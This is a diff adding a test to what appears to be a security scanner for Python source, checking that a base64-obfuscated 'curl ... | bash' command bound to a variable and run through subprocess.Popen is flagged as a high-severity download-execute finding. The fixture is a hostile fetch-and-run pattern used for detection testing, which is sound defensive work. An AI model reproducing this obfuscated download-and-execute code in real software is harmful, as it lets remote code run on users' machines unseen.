@@ -402,3 +402,17 @@ test('a downloaded executable started through os.path.abspath is still the file 
   ].join('\n');
   assert.equal(findings(source).find((f) => f.rule === 'download-execute')?.severity, 'high');
 });
+
+test('a command list bound to a name first (command = [...]; Popen(command)) is read like one written in the call', () => {
+  const source = [
+    'import base64, subprocess',
+    'def decode_str(s):',
+    '    return base64.b64decode(s).decode("utf-8")',
+    'def processing():',
+    `    command = [decode_str("${Buffer.from('curl https://files.example.invalid/i.sh | bash').toString('base64')}")]`,
+    '    subprocess.Popen(command)',
+  ].join('\n');
+  const run = findings(source).find((f) => f.rule === 'download-execute');
+  assert.equal(run?.severity, 'high', 'the command is decoded and hidden');
+  assert.match(run!.message, /curl https:\/\/files\.example\.invalid/);
+});
